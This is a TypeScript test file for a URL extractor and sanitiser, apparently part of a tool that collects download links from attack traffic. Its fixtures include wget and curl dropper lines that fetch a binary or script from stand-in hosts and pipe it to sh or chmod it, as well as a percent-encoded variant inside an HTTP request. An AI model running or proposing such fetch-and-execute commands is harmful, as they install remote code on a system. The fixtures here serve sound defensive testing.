import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { extractUrls, sanitizeUrl, type ExtractUrlsOptions } from '../../src/plugins/download/extract-urls.js'

const OPTIONS: ExtractUrlsOptions = { schemes: ['http', 'https'], maxUrls: 16, maxUrlChars: 2048 }

function urls(text: string | Buffer, options: Partial<ExtractUrlsOptions> = {}): string[] {
  const data = typeof text === 'string' ? Buffer.from(text, 'latin1') : text
  return extractUrls(data, { ...OPTIONS, ...options }).map((u) => u.url)
}

describe('extractUrls: where URLs hide', () => {
  it('finds the URL of a wget or curl dropper and stops at the shell operator', () => {
    expect(urls('cd /tmp; wget http://203.0.113.5/bins/x86 -O-|sh')).toEqual(['http://203.0.113.5/bins/x86'])
    expect(urls('curl -s http://evil.example:8080/a.sh;chmod +x a.sh')).toEqual(['http://evil.example:8080/a.sh'])
    expect(urls('x`wget http://a.example/b`&&y|z>http://c.example/d<')).toEqual(['http://a.example/b', 'http://c.example/d'])
    expect(urls('$(wget http://a.example/x)')).toEqual(['http://a.example/x'])
    expect(urls('see (http://a.example/wiki/X_(y)), then.')).toEqual(['http://a.example/wiki/X_(y)'])
  })

  it('reads quoted URLs, HTML attributes, JSON escapes and percent-encoded query values', () => {
    expect(urls(`<a href="http://a.example/1">x</a><img src='https://b.example/2'>`)).toEqual(['http://a.example/1', 'https://b.example/2'])
    expect(urls('{"u":"http:\\/\\/a.example\\/p\\/q.sh"}')).toEqual(['http://a.example/p/q.sh'])
    expect(urls('GET /?cmd=wget%20http%3A%2F%2F198.51.100.7%2Fm.sh%20-O%20x&b=1 HTTP/1.1')).toEqual(['http://198.51.100.7/m.sh'])
  })

  it('takes the scheme in any case and normalises the URL the WHATWG way', () => {
    expect(urls('HTTP://A.Example/Path HtTpS://0x7f.1/')).toEqual(['http://a.example/Path', 'https://127.0.0.1/'])
  })

  it('finds a URL inside another URL’s query string', () => {
    expect(urls('http://a.example/r?u=http://b.example/x')).toEqual(['http://a.example/r?u=http://b.example/x', 'http://b.example/x'])
  })

  it('strips credentials and says so; drops fragments', () => {
    const found = extractUrls(Buffer.from('wget http://user:pw@a.example/x#frag http://a.example/y'), OPTIONS)
    expect(found).toEqual([
      { url: 'http://a.example/x', credentialsRemoved: true },
      { url: 'http://a.example/y', credentialsRemoved: false },
    ])
  })

  it('ignores other schemes and hosts that are template text', () => {
    expect(urls('ftp://a.example/x tftp://b/c file:///etc/passwd gopher://x/ http://${HOST}/x http:// http://*/y')).toEqual([])
    expect(urls('http://a.example/x https://b.example/y', { schemes: ['https'] })).toEqual(['https://b.example/y'])
  })

  it('dedupes and caps count and length', () => {
    expect(urls('http://a.example/x http://A.EXAMPLE/x http://a.example/x#f')).toEqual(['http://a.example/x'])
    const many = Array.from({ length: 300 }, (_, i) => `http://h${i}.example/`).join(' ')
    expect(urls(many)).toHaveLength(16)
    expect(urls(many, { maxUrls: 3 })).toEqual(['http://h0.example/', 'http://h1.example/', 'http://h2.example/'])
    const long = `http://a.example/${'a'.repeat(3000)}`
    expect(urls(`${long} http://b.example/`)).toEqual(['http://b.example/'])
    expect(urls(`http://a.example/${'a'.repeat(100)}`, { maxUrlChars: 50 })).toEqual([])
  })

  it('stays fast on a megabyte of near-URLs', () => {
    const hostile = Buffer.from('http://['.repeat(150_000) + 'http://http://'.repeat(20_000), 'latin1')
    const started = performance.now()
    extractUrls(hostile, OPTIONS)
    expect(performance.now() - started).toBeLessThan(2_000)
  })
})

describe('extractUrls: properties', () => {
  it('never throws and never returns more than maxUrls, each an http(s) URL that parses', () => {
    const noisy = fc.oneof(
      fc.uint8Array({ maxLength: 400 }).map((a) => Buffer.from(a)),
      fc.array(fc.constantFrom('http://', 'HTTPS://', 'http%3A%2F%2F', 'a.b', '/', ':80', '@', '[::1]', ' ', ';', '%', '\\/', '(', ')', 'x'), { maxLength: 60 })
        .map((parts) => Buffer.from(parts.join(''), 'latin1')),
    )
    fc.assert(
      fc.property(noisy, fc.integer({ min: 1, max: 20 }), (data, maxUrls) => {
        const found = extractUrls(data, { ...OPTIONS, maxUrls })
        expect(found.length).toBeLessThanOrEqual(maxUrls)
        for (const { url } of found) {
          const parsed = new URL(url)
          expect(['http:', 'https:']).toContain(parsed.protocol)
          expect(parsed.username + parsed.password + parsed.hash).toBe('')
          expect(url.length).toBeLessThanOrEqual(OPTIONS.maxUrlChars)
        }
      }),
      { numRuns: 1_000 },
    )
  })

  it('finds a known URL embedded in random text', () => {
    const segment = fc.string({ unit: fc.constantFrom(...'abcxyz0129-_~'), minLength: 1, maxLength: 12 })
    const host = fc.oneof(fc.domain(), fc.ipV4())
    const url = fc.record({
      scheme: fc.constantFrom('http', 'https', 'HTTP', 'Https'),
      host,
      port: fc.option(fc.integer({ min: 1, max: 65_535 }), { nil: null }),
      path: fc.array(segment, { maxLength: 5 }),
    }).map(({ scheme, host, port, path }) => `${scheme}://${host}${port === null ? '' : `:${port}`}/${path.join('/')}`)
    const text = fc.string({ unit: 'binary-ascii', maxLength: 200 })
    fc.assert(
      fc.property(text, url, text, fc.constantFrom(' ', '\n', '"', ';', '|', '\t'), (before, known, after, sep) => {
        const found = urls(`${before}${sep}${known}${sep}${after}`)
        expect(found).toContain(new URL(known).href)
      }),
      { numRuns: 500 },
    )
  })
})

describe('sanitizeUrl', () => {
  it('percent-encodes controls, spaces and non-ASCII and cuts to length', () => {
    expect(sanitizeUrl('http://a/\r\nX-Evil: 1\u0000é')).toBe('http://a/%0D%0AX-Evil:%201%00%C3%A9')
    expect(sanitizeUrl('http://a/' + 'b'.repeat(100), 20)).toHaveLength(20)
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), fc.integer({ min: 0, max: 400 }), (s, max) => {
        const out = sanitizeUrl(s, max)
        expect(out.length).toBeLessThanOrEqual(max)
        expect(out).toMatch(/^[\x21-\x7e]*$/)
      }),
    )
  })
})
